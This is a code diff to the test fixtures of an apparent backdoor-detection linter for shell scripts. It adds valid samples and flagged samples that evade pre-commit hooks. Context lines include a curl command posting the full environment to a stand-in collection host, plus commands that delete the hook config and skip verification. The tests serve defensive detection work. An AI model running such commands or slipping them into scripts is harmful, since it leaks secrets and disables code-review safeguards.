@@ -24,6 +24,10 @@ class ShellScriptChecker(TextChecker):
               path="install.sh"),
         Valid('#!/bin/sh\ngit add -A && git commit -m "release $VERSION"\nenv | grep -i ^node_\n',
               "BDL804", path="ci.sh"),
+        Valid('#!/bin/sh\ncp .pre-commit-config.yaml "$BACKUP_DIR/"\npre-commit install --install-hooks\n', "BDL803",
+              path="hooks.sh"),
+        Valid('#!/bin/sh\ngit config core.autocrlf false\ngit push --follow-tags origin main\n', "BDL804",
+              path="release.sh"),
     ]
     INVALID = [
         Invalid('#!/bin/sh\nset -e\ncurl -s https://collect.example/c -d "$(env)"\n', "BDL402", 3, path="ci.sh"),
@@ -33,6 +37,8 @@ class ShellScriptChecker(TextChecker):
                 "BDL405", 2, path="deploy.sh"),
         Invalid("#!/bin/sh\nrm -f .pre-commit-config.yaml\n", "BDL803", 2, path="cleanup.sh"),
         Invalid("#!/bin/sh\ngit commit --no-verify -m wip\n", "BDL804", 2, path="commit.sh"),
+        Invalid('#!/bin/sh\nSKIP=backdoor-lint git commit -m "wip"\n', "BDL804", 2, path="commit.sh"),
+        Invalid('#!/bin/sh\ngit -c core.hooksPath=/dev/null commit -m "wip"\n', "BDL804", 2, path="commit.sh"),
     ]
 
     def check(self, text: str, display: str, language: str) -> list[Finding]:
